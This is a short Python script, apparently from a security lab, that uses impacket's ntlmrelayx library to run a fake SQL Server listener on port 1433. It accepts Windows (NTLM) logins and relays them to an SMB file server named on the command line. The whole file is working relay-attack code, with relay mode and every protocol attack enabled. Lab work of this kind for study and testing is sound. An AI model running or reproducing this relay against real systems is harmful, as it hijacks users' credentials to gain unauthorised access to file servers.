"""A machine that speaks like SQL Server with Windows authentication: impacket's server for handing logins on.

usage: python -m lab.peers.tds_server TARGET   (a file server to which the login is handed on)
"""

from __future__ import annotations

import sys
import time

from impacket.examples import logger
from impacket.examples.ntlmrelayx.attacks import PROTOCOL_ATTACKS
from impacket.examples.ntlmrelayx.clients import PROTOCOL_CLIENTS
from impacket.examples.ntlmrelayx.servers.mssqlrelayserver import MSSQLRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor

logger.init()
config = NTLMRelayxConfig()
config.setProtocolClients(PROTOCOL_CLIENTS)
config.setAttacks(PROTOCOL_ATTACKS)
config.setTargets(TargetsProcessor(singleTarget=f"smb://{sys.argv[1]}", protocolClients=PROTOCOL_CLIENTS))
config.setMode("RELAY")
config.setInterfaceIp("0.0.0.0")
config.setListeningPort(1433)
config.setSMB2Support(True)
MSSQLRelayServer(config).start()
while True:
    time.sleep(60)
